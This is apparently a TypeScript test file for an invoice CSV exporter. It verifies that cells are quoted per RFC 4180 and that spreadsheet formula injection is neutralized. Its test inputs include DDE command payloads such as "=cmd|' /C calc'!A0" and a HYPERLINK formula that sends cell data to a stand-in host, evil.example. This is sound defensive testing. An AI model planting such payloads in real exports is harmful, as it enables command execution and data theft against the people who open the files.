import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { INVOICE_CSV_COLUMNS, invoiceCsv } from '../../src/documents/invoice-csv.js';
import { invoiceTotals } from '../../src/documents/invoice-totals.js';
import { csvCell } from '../../src/shared/csv.js';
import { invoiceInput, invoiceLine } from './inputs.js';

/** RFC 4180 read back: rows of cells (quoted cells unquoted, doubled quotes single). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let index = 0;
  while (index < text.length) {
    const char = text[index] ?? '';
    const next = text[index + 1];
    index += 1;
    if (quoted && char === '"' && next === '"') {
      cell += '"';
      index += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && next === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else {
      cell += char;
    }
  }
  return rows;
}

/**
 * What a spreadsheet could take for a cell starting a formula, whatever separator it splits on
 * (`,`, `;`, a tab, a line break) and whether or not it honours the quotes: every piece between
 * two separators, its leading spaces and quotes set aside.
 */
function formulaPieces(written: string): string[] {
  return written
    .split(/[;,\t\r\n]/)
    .map((piece) => piece.replace(/^[ "]+/, ''))
    .filter((piece) => /^[=+\-@]/.test(piece));
}

const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

describe('CSV cells made safe for spreadsheets (shared/csv.ts)', () => {
  it.each([
    ['=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['+1', "'+1"],
    ['-2+3+cmd|', "'-2+3+cmd|"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', `"'\r'=1"`],
    ["Dde;=cmd|' /C calc'!A0", "Dde;'=cmd|' /C calc'!A0"],
    ['Order 7,=HYPERLINK("http://x")', `"Order 7,'=HYPERLINK(""http://x"")"`],
    ['ref\t@A1', "ref\t'@A1"],
    ['line one\n+cmd', `"line one\n'+cmd"`],
    ['a; "=cmd"', `"a;' ""=cmd"""`],
    ['a;\tb', "a;'\tb"],
    [' =1+1', "' =1+1"],
    ['-12.34', '-12.34'],
    ['2026-03-01', '2026-03-01'],
    ['Semaglutide, 2.5 mg/mL', '"Semaglutide, 2.5 mg/mL"'],
    ['O"Brien', '"O""Brien"'],
  ])('when a cell holds %j, then it is written %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('when any text of separators, quotes and formula starts is written, then no reading of it starts a formula, and RFC 4180 reads back what was neutralized', () => {
    const unit = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', ',', '"', "'", ' ', 'a', '1', '.');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 24 }), (value) => {
        const written = csvCell(value);
        if (!PLAIN_NUMBER.test(value)) expect(formulaPieces(written)).toEqual([]);
        const [row] = parseCsv(`${written},end\r\n`);
        expect(row?.[1]).toBe('end');
        expect((row?.[0] ?? '').replaceAll("'", '')).toBe(value.replaceAll("'", ''));
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('the invoice as CSV', () => {
  it('when an invoice is written, then it has a header and a row per charge and per credit, each line ended by CRLF', () => {
    const csv = invoiceCsv(invoiceInput());
    const rows = parseCsv(csv);

    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(6);
    expect(rows[0]).toEqual([...INVOICE_CSV_COLUMNS]);
    expect(rows.slice(1).map((row) => row[1])).toEqual(['charge', 'charge', 'charge', 'credit']);
    expect(rows[1]).toEqual([
      'INV-2026-0007',
      'charge',
      invoiceLine(1).order_id,
      'ACME-1',
      'Semaglutide 2.5 mg/mL injection',
      '1',
      '19999',
      '199.99',
    ]);
    expect(rows[3]?.[3]).toBe('');
    expect(rows[4]).toEqual([
      'INV-2026-0007',
      'credit',
      invoiceLine(2).order_id,
      'ACME-2',
      'Replacement shipped at our cost',
      '',
      '-1111',
      '-11.11',
    ]);
  });

  it('when the amount column is summed, then it gives the invoice total to the cent', () => {
    const input = invoiceInput();
    const rows = parseCsv(invoiceCsv(input)).slice(1);
    const cents = rows.reduce((sum, row) => sum + Number(row[6]), 0);
    const fromDollars = rows.reduce((sum, row) => sum + Number((row[7] ?? '').replace('.', '')), 0);

    expect(cents).toBe(invoiceTotals(input).total_cents);
    expect(fromDollars).toBe(67_222);
  });

  it('when a partner wrote formulas into its references and a reason holds one, then none of them starts a formula in any locale', () => {
    const input = invoiceInput({
      lines: [
        invoiceLine(1, { partner_reference: "Dde;=cmd|' /C calc'!A0" }),
        invoiceLine(2, { partner_reference: '=HYPERLINK("http://evil.example/?"&A1,"x")' }),
        invoiceLine(3, { partner_reference: '@SUM(1+1)', description: 'Semaglutide\t-cmd' }),
      ],
      credits: [{ order_id: null, partner_reference: '+1;-1', reason: 'Refund,\n=1+1', amount_cents: 500 }],
    });
    const csv = invoiceCsv(input);
    const rows = parseCsv(csv);

    expect(rows[1]?.[3]).toBe("Dde;'=cmd|' /C calc'!A0");
    expect(rows[2]?.[3]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"x")');
    expect(rows[3]?.[3]).toBe("'@SUM(1+1)");
    expect(rows[3]?.[4]).toBe("Semaglutide\t'-cmd");
    expect(rows[4]?.[3]).toBe("'+1;'-1");
    expect(rows[4]?.[4]).toBe("Refund,\n'=1+1");
    expect(rows[4]?.[6]).toBe('-500');
    const textCells = rows.flatMap((row) => row.filter((cell) => !PLAIN_NUMBER.test(cell)));
    expect(textCells.flatMap(formulaPieces)).toEqual([]);
  });

  it('when an amount is not a whole number of cents, then no CSV is written', () => {
    expect(() => invoiceCsv(invoiceInput({ lines: [invoiceLine(1, { amount_cents: 0.1 })] }))).toThrow(RangeError);
  });
});
